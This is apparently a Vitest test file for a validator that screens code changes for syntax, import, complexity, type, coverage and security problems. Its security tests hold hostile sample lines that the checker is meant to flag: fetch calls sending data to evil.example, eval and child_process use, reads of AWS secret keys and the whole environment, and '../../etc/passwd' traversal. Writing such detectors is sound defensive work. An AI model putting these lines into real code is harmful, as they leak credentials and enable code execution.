import { describe, expect, test } from 'vitest';
import { changeOf, type Tools } from '../../../lambdas/validation/check.ts';
import { CHECKS, configurationResults, runChecks } from '../../../lambdas/validation/checks.ts';
import { complexity } from '../../../lambdas/validation/checks/complexity.ts';
import { imports } from '../../../lambdas/validation/checks/imports.ts';
import { security } from '../../../lambdas/validation/checks/security.ts';
import { syntax } from '../../../lambdas/validation/checks/syntax.ts';
import { newDiagnostics, types } from '../../../lambdas/validation/checks/types.ts';
import { tests } from '../../../lambdas/validation/checks/tests.ts';
import type { SourceFile } from '../../../lambdas/shared/contract/records.ts';
import type { TestRun } from '../../../lambdas/shared/source/tools.ts';
import { steadyReplayer, USE } from './replays.ts';

const GREEN: TestRun = { passed: 3, failed: 0, coverage: 0.9, lines: { 'lib.js': { ran: [1, 2, 3, 4, 5], missed: [] } }, output: '' };
const tools = (run: TestRun | { none: string } = GREEN, base: TestRun | { none: string } = GREEN): Tools & { runs: number } => {
  const made = {
    runs: 0,
    runner: {
      async run(files: readonly SourceFile[]) {
        made.runs += 1;
        return files === BASE ? base : run;
      },
    },
    types: { check: async () => [] },
    replayer: steadyReplayer,
  };
  return made;
};

const BASE: SourceFile[] = [
  { path: 'package.json', content: '{"name":"orders","dependencies":{"got":"1"},"devDependencies":{"@types/got":"1"}}' },
  {
    path: 'handler.js',
    content: "import { a } from './lib.js';\nexport const handler = () => a(process.env.TABLE, 'https://known.example');\n",
  },
  { path: 'lib.js', content: 'export const a = (x) => x;\n' },
];
const change = (path: string, content: string) => changeOf(BASE, [{ path, content }], USE);

test('a change knows what differs', () => {
  const same = changeOf(BASE, [BASE[2] as SourceFile, { path: 'new.js', content: '' }], USE);
  expect(same.changed.map((file) => file.path)).toEqual(['new.js']);
  expect(same.after.map((file) => file.path).toSorted()).toEqual(['handler.js', 'lib.js', 'new.js', 'package.json']);
});

test('syntax: names the line', async () => {
  expect(await syntax.run(change('lib.js', 'export const a = (\n'), tools())).toMatchObject({
    status: 'fail',
    findings: [{ file: 'lib.js', line: 2 }],
  });
  expect(await syntax.run(change('lib.ts', 'const a: number = 1;\n'), tools())).toMatchObject({ status: 'pass' });
  expect(await syntax.run(change('package.json', '{'), tools())).toMatchObject({ status: 'fail' });
});

describe('imports', () => {
  test.each([
    ["import './handler.js';"],
    ["import fs from 'node:fs';"],
    ["import path from 'path';"],
    ["import got from 'got/sub/path';"],
    ["import { S3Client } from '@aws-sdk/client-s3';"],
    ["export { a } from './handler';"],
    ["import('./handler.js');"],
  ])('%s resolves', async (content) => {
    expect(await imports.run(change('lib.js', content), tools())).toMatchObject({ status: 'pass' });
  });

  test.each([
    ["import './missing.js';", 'no file ./missing.js'],
    ["import '../../outside.js';", 'no file'],
    ["import '/etc/passwd';", 'outside of the package'],
    ["import 'https://evil.example/x.js';", 'outside of the package'],
    ["import 'left-pad';", 'does not list left-pad'],
    ["const x = require('@scope/pkg/deep');", 'does not list @scope/pkg'],
    ["import '#alias';", 'maps no #alias'],
  ])('%s does not', async (content, message) => {
    const result = await imports.run(change('lib.js', content), tools());
    expect(result).toMatchObject({
      status: 'fail',
      findings: [{ rule: 'unresolved-import', message: expect.stringContaining(message) as unknown }],
    });
  });

  test('what only tests need may be a development dependency', async () => {
    expect(await imports.run(change('test/a.test.js', "import '@types/got';"), tools())).toMatchObject({ status: 'pass' });
    expect(await imports.run(change('lib.js', "import '@types/got';"), tools())).toMatchObject({ status: 'fail' });
  });
});

describe('security', () => {
  test.each([
    ['eval', 'export const a = (x) => eval(x);'],
    ['eval', "export const a = new Function('x', 'return x');"],
    ['eval', "export const a = () => setTimeout('x()', 1);"],
    ['eval', 'export const a = (x) => x.constructor.constructor("return 1")();'],
    ['powerful-module', "import { exec } from 'node:child_process';"],
    ['powerful-module', "import vm from 'vm';"],
    ['powerful-module', "import inspector from 'node:inspector/promises';"],
    ['powerful-module', "export const a = process.getBuiltinModule('fs');"],
    ['computed-import', 'export const a = (x) => import(x);'],
    ['computed-import', 'export const a = (x) => require(x);'],
    ['file-system', "import fs from 'node:fs/promises';\nexport const a = (x) => fs.writeFile(x, '');"],
    ['network-module', "import https from 'https';"],
    ['network-module', "export const a = new WebSocket('wss://known.example');"],
    ['network-host', "export const a = () => fetch('https://evil.example/collect');"],
    ['network-host', 'export const a = (x) => fetch(`https://evil.example/${x}`);'],
    ['network-call', 'export const a = (x) => fetch(x);'],
    ['environment', 'export const a = process.env.AWS_SECRET_ACCESS_KEY;'],
    ['environment', 'export const a = (x) => process.env[x];'],
    ['environment', 'export const a = { ...process.env };'],
    ['secret', "export const a = 'AKIAABCDEFGHIJKLMNOP';"],
    ['secret', "export const password = 'correct horse';"],
    ['secret', "export const a = { apiKey: '0123456789' };"],
    ['path-traversal', "export const a = '../../etc/passwd';"],
    ['aws-permission', "import { DeleteItemCommand } from '@aws-sdk/client-dynamodb';\nexport const a = new DeleteItemCommand({});"],
  ])('%s: %s', async (rule, content) => {
    const result = await security.run(change('lib.js', content), tools());
    expect(result.status).toBe('fail');
    expect(result.findings.map((finding) => finding.rule)).toContain(rule);
  });

  test.each([
    ['export const a = process.env.TABLE;'],
    ["export const a = 'https://known.example/other';"],
    ["import type { Server } from 'node:http';\nexport const a = 1;"],
    ["import { b } from '../lib/b.js';\nexport const a = b;"],
    ["export const password = '';"],
    ['export const a = (x) => x.evaluate();'],
  ])('what the package does already, or is harmless, passes: %s', async (content) => {
    expect(await security.run(change('src/lib.ts', content), tools())).toMatchObject({ status: 'pass' });
  });

  test('a test that reaches further than its package is a finding too', async () => {
    expect(await security.run(change('test/a.test.js', "import 'node:child_process';"), tools())).toMatchObject({ status: 'fail' });
  });
});

describe('complexity', () => {
  const branches = (count: number) => `export function f(x) {\n${'  if (x) x();\n'.repeat(count)}}\n`;
  test('nine decisions are too many, eight are not', async () => {
    expect(await complexity.run(change('lib.js', branches(8)), tools())).toMatchObject({ status: 'pass' });
    expect(await complexity.run(change('lib.js', branches(9)), tools())).toMatchObject({
      status: 'fail',
      findings: [{ message: expect.stringContaining('of 10') as unknown }],
    });
  });

  test('a function that was left alone is not judged, nor are tests', async () => {
    const old = changeOf(
      [{ path: 'lib.js', content: branches(20) }],
      [{ path: 'lib.js', content: `${branches(20)}export const b = () => 1;\n` }],
      USE,
    );
    expect(await complexity.run(old, tools())).toMatchObject({ status: 'pass' });
    expect(await complexity.run(change('test/lib.test.js', branches(20)), tools())).toMatchObject({ status: 'pass' });
  });

  test.each([
    ['a && b || c ?? d', 4],
    ['a?.b?.c', 3],
    ['(() => { if (x) y(); })()', 1],
    ['(a ??= b)', 2],
  ])('%s counts %i', async (expression, expected) => {
    const source = expression.includes('??') && expression.includes('||') ? 'a && (b || (c ?? d))' : expression;
    const padding = '  if (x) x();\n'.repeat(10 - expected);
    const at = async (extra: string) =>
      complexity.run(change('lib.js', `export function f(a, b, c, d, x, y) {\n${extra}${padding}  return ${source};\n}\n`), tools());
    expect((await at('')).findings).toHaveLength(1);
    expect(
      (
        await complexity.run(
          change('lib.js', `export function f(a, b, c, d, x, y) {\n${padding.split('\n').slice(1).join('\n')}  return ${source};\n}\n`),
          tools(),
        )
      ).findings,
    ).toHaveLength(0);
  });
});

describe('types', () => {
  const diagnostic = (line: number, message = 'wrong') => ({ file: 'lib.ts', line, code: 1, message });
  test('only what the base does not have counts, each as often as it is there', () => {
    expect(newDiagnostics([diagnostic(1)], [diagnostic(9)])).toEqual([]);
    expect(newDiagnostics([diagnostic(1)], [diagnostic(1), diagnostic(9)])).toEqual([diagnostic(9)]);
  });

  test('it is not applicable where nothing can be said', async () => {
    expect(await types.run(change('lib.js', ''), tools())).toMatchObject({
      status: 'not-applicable',
      summary: 'no changed file is TypeScript',
    });
    const blind = { ...tools(), types: { check: async () => ({ none: 'no library' }) } };
    expect(await types.run(change('lib.ts', ''), blind)).toMatchObject({ status: 'not-applicable', summary: 'no library' });
  });

  test('a new error fails', async () => {
    const checker = {
      check: async (files: readonly SourceFile[]) => (files.some((file) => file.path === 'lib.ts') ? [diagnostic(3)] : []),
    };
    expect(await types.run(change('lib.ts', ''), { ...tools(), types: checker })).toMatchObject({
      status: 'fail',
      findings: [{ line: 3, rule: 'TS1' }],
    });
  });
});

describe('tests', () => {
  const red = { ...GREEN, failed: 1 };
  test.each([
    [GREEN, GREEN, 'pass', undefined],
    [red, GREEN, 'fail', 'tests'],
    [{ ...GREEN, passed: 0 }, GREEN, 'fail', 'tests'],
    [{ ...GREEN, passed: 2 }, GREEN, 'fail', 'tests'],
    [red, red, 'fail', 'tests-fail-before'],
    [GREEN, red, 'fail', 'tests-fail-before'],
    [{ none: 'the target has no tests' }, GREEN, 'fail', 'no-tests'],
    [GREEN, { none: 'the target has no tests' }, 'fail', 'no-tests'],
  ])('%j after %j is a %s', async (run, base, status, rule) => {
    const result = await tests.run(change('lib.js', ''), tools(run, base));
    expect(result.status).toBe(status);
    expect(result.findings[0]?.rule).toBe(rule);
  });

  const five = ['export const a = (x) => {', '  const y = x + 1;', '  const z = y + 1;', '  return z;', '};', ''].join('\n');
  test.each([
    [[1, 2, 3, 4, 5], [], 'pass'],
    // Of the four lines that can run, the closing one is none, three are 75 %.
    [[1, 2, 3, 5], [4], 'fail'],
    [[], [1, 2, 3, 4, 5], 'fail'],
  ])('lines %j of what the change touches ran, and %j did not: %s', async (ran, missed, status) => {
    const result = await tests.run(change('lib.js', five), tools({ ...GREEN, lines: { 'lib.js': { ran, missed } } }));
    expect(result.status).toBe(status);
    expect(result.findings.map(({ rule, line }) => [rule, line])).toEqual(
      missed.filter((line) => line < 5).map((line) => ['coverage', line]),
    );
  });

  test('a new source that no test loads was missed', async () => {
    expect(await tests.run(change('more.js', five), tools())).toMatchObject({
      status: 'fail',
      findings: [{ file: 'more.js', line: 1 }, {}, {}, {}],
    });
  });

  test('names the failing tests and keeps nothing else that was printed', async () => {
    const content = "test('adds two', () => {});\nit(\"it's quick\", () => {});\ntest('is green', () => {});\n";
    const output = [
      'password=hunter2 is green',
      '✖ adds two (1.2ms)',
      "not ok 4 - it's quick",
      'adds two: expected card 4111 1111 1111 1111',
      'killed after 60 s',
    ].join('\n');
    const failed = await tests.run(change('test/lib.test.js', content), tools({ ...GREEN, failed: 2, output }));
    expect(failed.findings[0]?.message).toBe("2 of 5 tests fail: adds two; it's quick; killed after 60 s");
    const silent = await tests.run(change('lib.js', ''), tools({ ...GREEN, failed: 2, output: 'secret: hunter2' }));
    expect(silent.findings[0]?.message).toBe('2 of 5 tests fail');
    const titles = Array.from({ length: 40 }, (_, index) => `case ${index} ${'x'.repeat(300)}`);
    const many = titles.map((title) => `test('${title}', () => {});`).join('\n');
    const run = { ...GREEN, failed: 40, output: titles.map((title) => `${title}: no`).join('\n') };
    expect((await tests.run(change('test/lib.test.js', many), tools(run))).findings[0]?.message.length).toBeLessThan(1500);
  });
});

test('code that another check stopped is never run', async () => {
  const made = tools();
  const results = await runChecks(change('lib.js', 'export const a = (x) => eval(x);'), made);
  expect(made.runs).toBe(0);
  expect(results.find((result) => result.check === 'tests')).toMatchObject({
    status: 'not-applicable',
    summary: 'not run: security failed',
  });
});

test('a good change passes every check, a configuration has none to pass', async () => {
  const made = tools();
  const good = changeOf(BASE, [{ path: 'lib.js', content: 'export const a = (x) => x + 1;\n' }], USE);
  const results = await runChecks(good, made);
  expect(results.map((result) => [result.check, result.status])).toEqual([
    ['paths', 'pass'],
    ['syntax', 'pass'],
    ['size', 'pass'],
    ['kept-tests', 'pass'],
    ['imports', 'pass'],
    ['names', 'pass'],
    ['contract', 'pass'],
    ['complexity', 'pass'],
    ['security', 'pass'],
    ['types', 'not-applicable'],
    ['tests', 'pass'],
    ['behaviour', 'pass'],
    ['benefit', 'pass'],
  ]);
  expect(made.runs).toBe(2);
  expect(configurationResults().map((result) => result.status)).toEqual(CHECKS.map(() => 'not-applicable'));
});
